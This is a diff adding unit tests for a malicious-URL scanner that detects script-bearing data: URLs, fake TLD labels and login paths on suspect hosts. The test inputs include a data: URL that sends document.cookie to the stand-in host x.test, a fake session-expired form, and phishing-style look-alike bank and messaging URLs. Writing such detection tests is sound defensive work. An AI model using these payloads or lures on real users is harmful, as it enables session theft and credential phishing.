@@ -423,6 +423,37 @@ describe('malicious_urls: look-alikes, phishing hosts, shorteners', () => {
   });
 });
 
+describe('malicious_urls: active data: URLs, fake TLD labels, login paths on suspect hosts', () => {
+  const scanner = createMaliciousUrlsScanner();
+  const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');
+
+  test('a data: URL carrying HTML or script flags, even when the comma after its media type ends the match', () => {
+    assert.match(rules('Open data:text/html,<h1>Session expired</h1><form action=//x.test>…'), /data_html/);
+    assert.match(rules('Dán vào thanh địa chỉ: data:application/javascript,fetch("//x.test/"+document.cookie)'), /data_html/);
+    assert.equal(scanner.scan('The logo is inlined as data:image/png;base64,iVBORw0KGgo= in the stylesheet.').flagged, false);
+  });
+
+  test('a TLD written with digits, or a TLD as the name under a generic TLD, makes the host start like another', () => {
+    for (const url of ['https://kakao-talk.c0m.icu/auth', 'https://sber-online.n3t.top/', 'http://mybank.com.top/']) {
+      assert.equal(scanner.scan(`Зайдите по ссылке ${url} чтобы продолжить.`).flagged, true, url);
+      assert.match(rules(url), /tld_in_subdomain/, url);
+    }
+    // A country's second level ("in.th", "co.ke") is not a fake TLD, and a .com under .com is not either.
+    for (const url of ['https://www.nectec.in.th/about', 'https://shop.co.ke/account/login', 'https://www.example.com/com/docs']) {
+      assert.equal(scanner.scan(url).flagged, false, url);
+    }
+  });
+
+  test('a login path counts on a host that already shows evidence, not on a site of its own', () => {
+    assert.match(rules('سجّل الدخول هنا: http://parcel-ae.top/account/login/confirm'), /credential_path/);
+    assert.equal(scanner.scan('Khi cần, vào http://hoadon-dien.xyz/taikhoan/dangnhap để xem.').flagged, true);
+    for (const url of ['https://github.com/login/device/verify', 'https://my.example.org/account/security/login', 'https://docs.example.xyz/guide/intro']) {
+      assert.equal(scanner.scan(url).flagged, false, url);
+      assert.doesNotMatch(rules(url), /credential_path/, url);
+    }
+  });
+});
+
 describe('no_code: command lines, one-liners, code in prose, JSON', () => {
   const scanner = createNoCodeScanner();
   const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');
